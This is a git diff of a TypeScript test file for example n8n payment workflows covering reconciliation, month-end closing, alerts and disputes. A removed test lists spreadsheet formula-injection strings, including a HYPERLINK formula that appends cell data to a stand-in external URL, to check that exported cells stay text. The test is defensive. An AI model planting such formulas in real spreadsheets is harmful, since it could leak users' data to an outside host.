@@ -1,20 +1,26 @@
-/** The examples that compare and report what has moved, to accounting, in a real n8n. */
-import { forgetPayouts, RECONCILIATION_EXAMPLE } from '../../../dev/demo/examples';
-import type { Mail } from '../../../dev/demo/mailbox';
-import { waitFor } from '../../../dev/n8n/process/waitFor';
-import type { Execution } from '../../../dev/n8n/rest/executionData';
+/** The examples that compare and report what has moved, what is missing and what is disputed, in a real n8n. */
+import type { IDataObject } from 'n8n-workflow';
+
 import {
-	brlPayments,
+	ALERT_EXAMPLE,
+	DISPUTE_EXAMPLE,
+	forgetPayouts,
+	listExamples,
+	readExample,
+	RECONCILIATION_EXAMPLE,
+} from '../../../dev/demo/examples';
+import type { Mail } from '../../../dev/demo/mailbox';
+import type { Execution } from '../../../dev/n8n/rest/executionData';
+import { publishWorkflow } from '../../../dev/n8n/rest/publication';
+import {
 	buildWorkflow,
 	manualStart,
 	payEachItem,
+	webhookStart,
 } from '../../../dev/n8n/rest/workflow';
 import type { Payment } from '../../../dev/sandbox';
-import { LEDGER_NAME } from '../../../nodes/shared/n8n/dataTable';
-import { COLUMNS } from '../../../nodes/BrlPayments/orders/tableRow';
-import { makeInvoices } from '../support/payouts';
-import { loadXlsx, type Book } from '../support/xlsx';
-import { DAY_MS, getError, legible, toDay, useExampleWorld } from './exampleWorld';
+import { makeInvoices, makePayouts } from '../support/payouts';
+import { DAY_MS, getError, legible, MINUTE_MS, toDay, useExampleWorld } from './exampleWorld';
 
 const world = useExampleWorld();
 
@@ -29,12 +35,6 @@ async function mailOf(run: () => Promise<Execution>): Promise<Mail> {
 const yesterday = () => toDay(Date.now() - DAY_MS);
 /** A day as Brazilians write it. */
 const inWords = (day: string) => day.split('-').reverse().join('/');
-
-const refuseStatements = () =>
-	world.sandbox.faults.add({
-		...{ method: 'GET', path: '/v1/documents/statements', kind: 'error', times: Infinity },
-		code: 'FORBIDDEN',
-	});
 
 describe('the end of the month', () => {
 	/** Of yesterday and today. */
@@ -60,17 +60,6 @@ describe('the end of the month', () => {
 		world.sandbox.setWithdrawalStatus(id, 'COMPLETED');
 		return world.sandbox.books.withdrawals.find((withdrawal) => withdrawal.id === id)!;
 	};
-
-	/** Refunds a payment, and waits until the money is back. Returns the TxID of the refund. */
-	async function refund({ id }: Payment): Promise<string> {
-		const parameters = { paymentId: id, reason: 'Order cancelled', options: {} };
-		const nodes = [...manualStart([{}]), brlPayments('Refund', 'payment', 'refund', parameters)];
-		await world.run(buildWorkflow('Refund', nodes));
-		await waitFor(() => world.sandbox.books.refunds.some(({ status }) => status === 'COMPLETED'), {
-			...{ what: 'the refund to be done', timeoutMs: 15_000 },
-		});
-		return world.sandbox.books.refunds.at(-1)!.txId;
-	}
 
 	const sum = (amounts: number[]) => amounts.reduce((total, amount) => total + amount, 0);
 	const reais = (cents: number) =>
@@ -133,41 +122,6 @@ describe('the end of the month', () => {
 		expect(lines.at(-1)).toMatchObject({ 'no extrato': (net - out) / 100 });
 	});
 
-	it('names each difference, and all together explain the difference of the totals', async () => {
-		const [fine, disputed, refunded] = pay(3) as [Payment, Payment, Payment];
-		world.sandbox.setPaymentStatus(disputed.id, 'CHARGEBACK');
-		const refundTxId = await refund(refunded);
-		// The lists have these, and the statement has no movement of them.
-		const unstated = world.seedPayment({
-			status: 'PAID',
-			createdAt: Date.now(),
-			amountCents: 5_000,
-		});
-		const withdrawal = world.seedWithdrawal({ status: 'COMPLETED', createdAt: Date.now() });
-
-		const { mail, lines } = await run();
-
-		const found = lines
-			.filter(({ diferença }) => diferença)
-			.map((line) => [line.TxID, line.diferença]);
-		expect(found.sort()).toEqual(
-			[
-				[disputed.txId, 'contestado, o extrato mostra o estorno'],
-				[refundTxId, 'só no extrato'],
-				[unstated.txId, 'não está no extrato'],
-				[withdrawal.txId, 'não está no extrato'],
-			].sort(),
-		);
-		expect(mail.subject).toContain(': 4 diferenças');
-		expect(mail.text).not.toContain(fine.txId);
-		const listed = sum([fine, disputed, refunded, unstated].map(({ netCents }) => netCents));
-		const change = listed - withdrawal.amountCents - withdrawal.feeCents;
-		const stated = await statedChange();
-		expect(mail.text).toContain(
-			`Extrato: ${reais(stated)}, diferença de ${reais(stated - change)}\n`,
-		);
-	});
-
 	it('shows which reference each withdrawal paid, and that one was paid twice', async () => {
 		await forgetPayouts(world.client);
 		const rows = makeInvoices(['NF-1', 'NF-2']);
@@ -200,98 +154,6 @@ describe('the end of the month', () => {
 		);
 		expect(mail.text).toContain(`${twice}: ${first!.txId}`);
 		expect(mail.text).not.toContain('BRL Payouts');
-	});
-
-	it('writes the file also if the statement cannot be read, and for days without a movement', async () => {
-		refuseStatements();
-		const empty = await run();
-		expect(empty.lines.map(({ tipo }) => tipo)).toEqual([
-			'total de recebimentos',
-			'total de saques',
-			'total do mês',
-		]);
-		pay(2);
-		const { mail, lines } = await run();
-		expect(mail.text).toContain('Extrato: não pôde ser lido, e não foi comparado');
-		expect(lines.map((line) => [line['no extrato'], line.diferença])).toEqual(
-			Array.from({ length: 5 }, () => ['', '']),
-		);
-	});
-
-	/** What a spreadsheet program takes for a number, a date or a formula if it may. */
-	const TEXTS = [
-		...['0012', '1E10', '20261001000123456', '12-2026', '1/2', '10,50', '1.234,56', '-1', 'TRUE'],
-		...['=HYPERLINK("http://x.example/?"&A1,"recibo")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1'],
-		...['+55', '@SUM(1)', "'0012", '="0012"', '"a";b'],
-	];
-
-	it('writes each text as it is, into cells that stay text when the file is saved again', async () => {
-		const documents: Record<string, string> = {
-			...{ '45387012000159': '45.387.012/0001-59', '00734120664': '007.341.206-64' },
-			...{ '7KB40X9Z000151': '7K.B40.X9Z/0001-51', '12345678E00131': '12.345.678/E001-31' },
-			'***341206***': '***341206***',
-		};
-		const createdAt = Date.now();
-		const paid = { status: 'PAID', createdAt } as const;
-		const bank = { documentType: null, institutionName: null, institutionIspb: null };
-		await world.createTable(LEDGER_NAME, COLUMNS);
-		for (const text of TEXTS) {
-			const payer = { ...bank, name: text, document: null };
-			const { id } = world.seedPayment({ ...paid, description: text, payer });
-			const charge = { kind: 'charge', status: 'created', environment: 'live' };
-			await world.addTableRows(LEDGER_NAME, { ...charge, reference: text, paymentId: id });
-		}
-		for (const document of Object.keys(documents)) {
-			world.seedPayment({ ...paid, payer: { ...bank, name: 'Maria', document } });
-		}
-		const keys = ['45387012000159', '00734120664', '+5541998765432', 'ana@payee.example'];
-		for (const pixKey of keys) {
-			world.seedWithdrawal({ status: 'COMPLETED', createdAt, processedAt: createdAt, pixKey });
-		}
-
-		const { file, lines } = await run();
-
-		const values = (column: string) => lines.map((line) => line[column]);
-		for (const column of ['descrição', 'referência', 'nome ou chave PIX']) {
-			expect(values(column)).toEqual(expect.arrayContaining(TEXTS));
-		}
-		expect(values('CPF ou CNPJ')).toEqual(expect.arrayContaining(Object.values(documents)));
-		expect(values('nome ou chave PIX')).toEqual(
-			expect.arrayContaining([
-				...['45.387.012/0001-59', '007.341.206-64', '+5541998765432', 'ana@payee.example'],
-			]),
-		);
-
-		const { read, write } = loadXlsx(world.host);
-		const cellsOf = ({ Sheets }: Book) =>
-			Object.entries(Sheets.Fechamento!)
-				.filter(([address]) => !address.startsWith('!'))
-				.map(([address, { t, v, f }]) => ({ address, t, v, f }));
-		const cells = cellsOf(read(file));
-		// Amounts are in the columns K to N; the first line has the titles.
-		const isAmount = (address: string) => /^[K-N](?!1$)/.test(address);
-		const types = cells.map(({ address, t, v }) => [
-			address,
-			v === '' || !isAmount(address) ? 's' : 'n',
-			t,
-		]);
-		expect(types.filter(([, expected, found]) => expected !== found)).toEqual([]);
-		expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
-		expect(cellsOf(read(write(read(file), { bookType: 'xlsx', type: 'buffer' })))).toEqual(cells);
-	});
-
-	it.each([
-		...['0012', '1E10', '20261001000123456', '45387012000159', '12345678E00131', '1/2', 'TRUE'],
-		'+5541998765432',
-	])('is no CSV file, where %s would become something else', (text) => {
-		const { read } = loadXlsx(world.host);
-		const readBack = (cell: string) => {
-			const { SheetNames, Sheets } = read(Buffer.from(`\uFEFFtitle\r\n${cell}\r\n`));
-			return Sheets[SheetNames[0]!]!.A2!;
-		};
-		expect(readBack(text).t).not.toBe('s');
-		// Shown with the apostrophe, which nobody finds when they look the number up.
-		expect(readBack(`'${text}`).v).toBe(`'${text}`);
 	});
 });
 
@@ -352,24 +214,6 @@ describe('the daily reconciliation', () => {
 		);
 	});
 
-	it('counts a movement once, under the status that it has now, and leaves other days alone', async () => {
-		const withdrawal = world.seedWithdrawal({
-			...{ amountCents: 10_000, createdAt: Date.now() - DAY_MS, status: 'PROCESSING' },
-		});
-		await world.addTableRows('Totals by day', { day: '2020-01-31', kind: 'payment', number: 7 });
-		await run();
-		withdrawal.status = 'COMPLETED';
-		await run();
-		const totals = await world.tableRows('Totals by day');
-		const net = (10_000 + withdrawal.feeCents) / 100;
-		expect(totals.filter(({ day }) => day === yesterday())).toEqual([
-			expect.objectContaining({
-				...{ kind: 'withdrawal', status: 'COMPLETED', number: 1, amount: 100, net },
-			}),
-		]);
-		expect(totals).toContainEqual(expect.objectContaining({ day: '2020-01-31', number: 7 }));
-	});
-
 	it('reports what does not add up', async () => {
 		const createdAt = Date.now() - DAY_MS;
 		const missed = world.seedPayment({ createdAt, status: 'PAID' });
@@ -396,47 +240,163 @@ describe('the daily reconciliation', () => {
 		}
 		for (const { txId } of [fine, done]) expect(mail.text).not.toContain(txId);
 	});
+});
 
-	it('shows which reference a withdrawal paid, and in which execution', async () => {
-		const createdAt = Date.now() - DAY_MS;
-		const [failed, other] = [1, 2].map(() => world.seedWithdrawal({ createdAt, status: 'FAILED' }));
-		await world.createTable(LEDGER_NAME, COLUMNS);
-		await world.addTableRows(LEDGER_NAME, {
-			...{ reference: 'NF-77', status: 'failed', withdrawalId: failed!.id, execution: '41' },
+describe('the alert', () => {
+	const RECIPIENT = 'alerts@example.com';
+	const PAID = { status: 'PAID', createdAt: Date.now() - 3 * 60 * MINUTE_MS } as const;
+	const check = async () => await world.runExample(ALERT_EXAMPLE, 'Every Hour');
+
+	/** What one check sends; a second one right after it must have nothing to add. */
+	async function readAlert(): Promise<Mail> {
+		const [mail] = await world.nextMail(RECIPIENT, async () => {
+			expect(getError(await check())).toBeUndefined();
+			expect(getError(await check())).toBeUndefined();
 		});
+		return mail;
+	}
 
-		const mail = await mailOf(run);
+	// The first check makes the table.
+	beforeAll(async () => expect((await check()).status).toBe('success'), MINUTE_MS);
 
-		expect(mail.text).toContain(`saque ${failed!.txId}, NF-77, execução 41, R$`);
-		expect(mail.text).toContain(`saque ${other!.txId}, R$`);
-		const rows = await world.tableRows('Movements by day');
-		expect(rows.find(({ txId }) => txId === failed!.txId)).toMatchObject({
-			...{ reference: 'NF-77', execution: '41' },
-		});
+	it('reports, once, which paid payments have sent no event, and where to look', async () => {
+		const missed = [
+			world.seedPayment({ ...PAID, amountCents: 12_590 }),
+			world.seedPayment({ ...PAID, amountCents: 48_000, status: 'CONFIRMED' }),
+		];
+		const arrived = world.seedPayment(PAID);
+		const unpaid = world.seedPayment({ createdAt: PAID.createdAt });
+		const late = world.seedPayment({ status: 'PAID', createdAt: Date.now() - MINUTE_MS });
+		const receivedAt = new Date().toISOString();
+		await world.addTableRows('Payments received', { txId: arrived.txId, receivedAt });
+
+		const { subject, text } = await readAlert();
+
+		expect(subject).toBe('Minha empresa: 2 avisos');
+		for (const { txId } of missed) expect(text).toContain(txId);
+		for (const { txId } of [arrived, unpaid, late]) expect(text).not.toContain(txId);
+		expect(text.replaceAll('\u00a0', ' ')).toContain('R$ 125,90');
+		expect(text).toContain('O endpoint foi suspenso?');
 	});
 
-	it('finds events in its own table, not in one with a longer name', async () => {
-		const seed = () => world.seedPayment({ createdAt: Date.now() - DAY_MS, status: 'PAID' });
-		const [arrived, other] = [seed(), seed()];
-		for (const [table, { txId }] of [
-			['Payments received', arrived],
-			['Payments received (copy)', other],
-		] as const) {
-			await world.createTable(table, [
-				['txId', 'string'],
-				['receivedAt', 'string'],
-			]);
-			await world.addTableRows(table, { txId, receivedAt: new Date().toISOString() });
+	it('reports an execution that failed, in a workflow that names it, and how to continue', async () => {
+		const id = world.workflows[ALERT_EXAMPLE]!;
+		await world.client.activateWorkflow(id);
+		const nodes = [...webhookStart('pay-list'), payEachItem()];
+		const workflow = buildWorkflow('Pay the list', nodes);
+		const payer = await world.listen({ ...workflow, settings: { errorWorkflow: id } });
+		world.sandbox.account.balanceCents = 0;
+		const [mail, executionId] = await world.nextMail(
+			RECIPIENT,
+			async () => await world.trigger(payer, 'pay-list', { items: makePayouts(2) }),
+		);
+
+		expect(mail.subject).toBe('Falhou: Pay the list');
+		expect(mail.text).toMatch(/balance/i);
+		expect(mail.text).toContain(`/workflow/${payer}/executions/${executionId}`);
+		expect(mail.text).toContain('clique em Retry. O que já foi pago não é pago de novo');
+	});
+});
+
+describe('the dispute desk', () => {
+	const TEAM = 'finance@example.com';
+
+	/** Publishes the example, as it is or changed; from then on, its trigger receives. */
+	async function listen(): Promise<void> {
+		await world.connectEvents(DISPUTE_EXAMPLE);
+		await publishWorkflow(world.client, world.workflows[DISPUTE_EXAMPLE]!);
+	}
+
+	const settle = async () => await world.settle(DISPUTE_EXAMPLE);
+
+	const runDaily = async () =>
+		expect(getError(await world.runExample(DISPUTE_EXAMPLE, 'Every Day at 08:00'))).toBeUndefined();
+
+	const seedPaid = (amountCents: number, name: string, paymentMethod: 'PIX' | 'CARD') => {
+		const payment = world.seedPayment({
+			...{ amountCents, paymentMethod, description: `Pedido de ${name}` },
+			customer: { name, document: '39053344705', documentType: 'CPF' },
+		});
+		world.sandbox.setPaymentStatus(payment.id, 'PAID');
+		return payment;
+	};
+
+	const rowsOf = async ({ id }: Payment): Promise<IDataObject[]> =>
+		(await world.tableRows('Disputes')).filter(({ paymentId }) => paymentId === id);
+
+	/** The e-mails about a payment, the oldest first; waits for this many, and finds no more. */
+	async function mailsAbout({ txId }: Payment, count: number): Promise<string[]> {
+		await world.mailsTo(TEAM, count);
+		const mails = (await world.mailbox.mails())
+			.filter(({ text }) => text.includes(txId))
+			.map(({ subject, text }) => legible(`${subject}\n${text}`));
+		expect(mails).toHaveLength(count);
+		return mails;
+	}
+
+	it('opens a row for each dispute, once, and closes each when it is over', async () => {
+		await listen();
+		const claimed = seedPaid(12_590, 'Maria', 'PIX');
+		const disputed = seedPaid(48_000, 'Carlos', 'CARD');
+
+		world.sandbox.setPaymentStatus(claimed.id, 'MED_FROZEN');
+		world.sandbox.setPaymentStatus(disputed.id, 'CHARGEBACK');
+		await settle();
+		for (const { id } of [...world.sandbox.webhooks.deliveries]) {
+			world.sandbox.webhooks.replay(id);
+			world.sandbox.webhooks.resend(id);
 		}
-		const mail = await mailOf(run);
-		expect(mail.subject).toContain(': 1 diferença');
-		expect(mail.text).toContain(`Pago, mas nenhum evento chegou: pagamento ${other.txId}`);
-		expect(mail.text).not.toContain(arrived.txId);
-	});
+		await settle();
+		await runDaily();
 
-	it('reports a day without movements, too', async () => {
-		const mail = await mailOf(run);
-		expect(mail.subject).toContain(': 0 diferenças');
-		expect(mail.text).toContain('Nenhum movimento neste dia.');
+		const deadline = toDay(Date.now() + 7 * DAY_MS);
+		for (const [payment, kind, payer] of [
+			[claimed, 'MED', 'Maria'],
+			[disputed, 'chargeback', 'Carlos'],
+		] as const) {
+			expect(await rowsOf(payment)).toMatchObject([
+				{
+					...{ kind, status: 'aberta', outcome: '', deadline, payer, closedAt: '' },
+					...{ txId: payment.txId, amount: payment.amountCents / 100, receipt: '' },
+					...{ payerDocument: '39053344705', description: `Pedido de ${payer}` },
+				},
+			]);
+		}
+		const [mail] = await mailsAbout(claimed, 1);
+		const day = deadline.split('-').reverse().join('/');
+		expect(mail).toContain(`Contestação (MED) de R$ 125,90 de Maria: responder até ${day}`);
+		expect(mail).toContain(
+			'O serviço não dá o comprovante enquanto o pagamento está em contestação.',
+		);
+		await mailsAbout(disputed, 1);
+
+		// The MED is refused, and sends an event. The chargeback is won, which sends none of the three.
+		world.sandbox.setPaymentStatus(claimed.id, 'PAID');
+		world.sandbox.setPaymentStatus(disputed.id, 'PAID');
+		await settle();
+		await runDaily();
+		await runDaily();
+
+		for (const payment of [claimed, disputed]) {
+			expect(await rowsOf(payment)).toMatchObject([
+				{
+					...{ status: 'encerrada', outcome: 'o dinheiro ficou com você', deadline },
+					receipt: expect.stringContaining(payment.txId),
+				},
+			]);
+			const [, closed] = await mailsAbout(payment, 2);
+			expect(closed).toContain('encerrada, o dinheiro ficou com você');
+			expect(closed).toContain('Comprovante de pagamento');
+		}
 	});
+});
+
+it('all examples use only node types that this n8n has, in their latest version', async () => {
+	const versions = await world.client.nodeTypes();
+	for (const file of await listExamples()) {
+		for (const { type, typeVersion } of (await readExample(file)).nodes) {
+			const latest = Math.max(...(versions.get(type) ?? []));
+			expect([file, type, typeVersion]).toEqual([file, type, latest]);
+		}
+	}
 });
